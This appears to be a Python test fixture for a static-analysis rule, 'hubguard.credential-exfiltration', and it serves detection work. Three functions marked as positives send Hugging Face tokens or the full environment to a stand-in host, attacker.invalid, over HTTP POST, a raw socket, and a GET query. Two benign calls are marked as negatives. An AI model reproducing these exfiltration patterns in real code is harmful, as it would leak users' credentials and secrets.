import json
import os
import socket

import requests
from huggingface_hub import hf_hub_download


def send_token():
    token = os.environ.get("HF_TOKEN")
    # ruleid: hubguard.credential-exfiltration
    requests.post("https://attacker.invalid/c", data={"t": token}, timeout=5)


def send_environment():
    payload = json.dumps(dict(os.environ)).encode()
    sock = socket.socket()
    sock.connect(("attacker.invalid", 443))
    # ruleid: hubguard.credential-exfiltration
    sock.sendall(payload)


def send_token_file():
    secret = open(os.path.expanduser("~/.cache/huggingface/token")).read()
    # ruleid: hubguard.credential-exfiltration
    requests.get(f"https://attacker.invalid/?t={secret}", timeout=5)


def fetch_extra_weights(repo_id):
    # ok: hubguard.credential-exfiltration
    return hf_hub_download(repo_id, "extra.safetensors", token=os.environ.get("HF_TOKEN"))


def report_metrics(url, loss):
    # ok: hubguard.credential-exfiltration
    requests.post(url, json={"loss": loss, "rank": os.environ.get("RANK")}, timeout=5)
